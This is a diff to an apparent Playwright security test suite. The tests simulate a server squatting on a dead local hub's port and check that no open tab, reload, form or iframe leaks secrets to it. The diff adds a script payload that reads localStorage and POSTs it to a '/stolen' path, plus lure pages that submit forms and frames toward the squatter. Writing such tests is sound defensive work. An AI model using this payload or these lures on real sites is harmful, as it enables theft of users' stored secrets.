@@ -25,7 +25,10 @@ import json, socket, sys, threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 heard = open(sys.argv[3], "a", buffering=1)
-EVIL = "<script>document.title = 'squatted ' + JSON.stringify(localStorage)</script>"
+EVIL = (
+    "<body><script>document.title = 'squatted ' + JSON.stringify(localStorage);"
+    "fetch('/stolen', { method: 'POST', body: JSON.stringify(localStorage) })</script>"
+)
 
 class Squatter(BaseHTTPRequestHandler):
     protocol_version = "HTTP/1.1"
@@ -35,7 +38,7 @@ class Squatter(BaseHTTPRequestHandler):
         heard.write(json.dumps([self.command, self.path, dict(self.headers), body]) + "\n")
         words = dict.fromkeys(("ticket", "token", "id", "csrf"), "x") | {"role": "owner"}
         kind, text = "application/json", json.dumps({"nonce": "h" * 32, "proof": "p" * 43, **words})
-        if self.path.partition("?")[0] in ("/", "/link"):
+        if self.headers.get("sec-fetch-mode") == "navigate":
             kind, text = "text/html", EVIL
         elif self.path.startswith("/sw.js"):
             kind, text = "text/javascript", "skipWaiting(); addEventListener('activate', () => clients.claim())"
@@ -123,13 +126,13 @@ def test_a_squatter_on_the_dead_hubs_port_is_told_nothing_by_an_open_tab(
     hub.kill()
     with squatting(ground, "127.0.0.1", port) as squatter:
         status = page.get_by_role("status").first
-        expect(status).to_contain_text("has not shown that it is your hub")
+        expect(status).to_contain_text("has not proved that it is your hub")
         asked = [path for _, path, _, _ in squatter.heard()]
         assert set(asked) <= {"/api/sign-in/challenge"}, asked
 
         # a reload shows our own page, which asks the same question, and not the squatter's
         page.reload()
-        expect(status).to_contain_text("has not shown that it is your hub")
+        expect(status).to_contain_text("has not proved that it is your hub")
         assert "squatted" not in page.title()
         eventually(lambda: len(squatter.heard()) > len(asked))
         everything = json.dumps(squatter.heard())
@@ -147,6 +150,47 @@ def test_a_squatter_on_the_dead_hubs_port_is_told_nothing_by_an_open_tab(
     window.type("again")
     window.expect_shown("again")
     ground.end(dev)
+
+
+OPEN_IN_FRAME = """([address, method]) => new Promise((loaded) => {
+    const frame = document.createElement("iframe");
+    frame.name = "inner";
+    const form = document.createElement("form");
+    Object.assign(form, { action: address, method, target: "inner" });
+    frame.onload = () => {
+        frame.onload = loaded;
+        form.submit();
+    };
+    document.body.append(form, frame);
+}).then(() => undefined)"""
+OPEN_BY_FORM = """([address, method]) => {
+    const form = document.createElement("form");
+    Object.assign(form, { action: address, method });
+    document.body.append(form);
+    form.submit();
+}"""
+
+
+@pytest.mark.ids("S1")
+@pytest.mark.parametrize("path", ["/link", "/api/sessions", "/favicon.svg", "/"])
+def test_no_link_form_or_frame_opens_what_a_squatter_has_where_the_secret_is(
+    ground: Ground, hub: HubProcess, window: Window, path: str
+) -> None:
+    """A page of the same site, on another port, leads to what somebody else has put at the dead hub's address."""
+    kept, port = secrets_of(window), int(hub.url.rpartition(":")[2])
+    window.page.evaluate("navigator.serviceWorker.ready.then(() => undefined)")
+    window.page.goto("about:blank")
+    hub.kill()
+    with squatting(ground, "127.0.0.1", port) as squatter, squatting(ground, "127.0.0.1", 0) as lure:
+        page = window.context.new_page()
+        for method in ("get", "post"):
+            page.goto(f"http://127.0.0.1:{lure.port}/")
+            page.evaluate(OPEN_IN_FRAME, [hub.url + path, method])
+            page.evaluate(OPEN_BY_FORM, [hub.url + path, method])
+            expect(page.get_by_role("status").first).to_contain_text("has not proved that it is your hub")
+        asked = [(method, path) for method, path, _, _ in squatter.heard() if not path.startswith("/fav")]
+        assert set(asked) == {("POST", "/api/sign-in/challenge")}
+        assert kept["secret"] not in json.dumps(squatter.heard())
 
 
 @pytest.mark.ids("S1")
